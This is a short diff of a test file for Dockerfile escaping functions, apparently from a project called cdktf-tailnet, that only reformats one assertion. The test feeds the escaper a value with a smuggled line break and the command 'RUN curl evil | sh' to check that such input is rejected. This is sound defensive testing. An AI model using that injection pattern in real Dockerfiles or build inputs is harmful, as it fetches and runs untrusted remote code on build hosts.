@@ -15,7 +15,9 @@ describe("Dockerfile escapers", () => {
     const written = values.filter((v) => !/[\n\r]/.test(v));
     expect(shWords(written.map(dockerRunWord).join(" "))).toEqual(written);
     for (const v of written) expect(dockerRunWord(v)).not.toMatch(/[\n\r]/);
-    expect(() => dockerRunWord("/var/lib/x\nRUN curl evil | sh")).toThrow('cdktf-tailnet: cannot write "/var/lib/x\\nRUN curl evil | sh" into a Dockerfile RUN command: it holds a line break (\\n)');
+    expect(() => dockerRunWord("/var/lib/x\nRUN curl evil | sh")).toThrow(
+      'cdktf-tailnet: cannot write "/var/lib/x\\nRUN curl evil | sh" into a Dockerfile RUN command: it holds a line break (\\n)',
+    );
     expect(() => dockerRunWord("a\rb")).toThrow("it holds a carriage return (\\r)");
   });
 
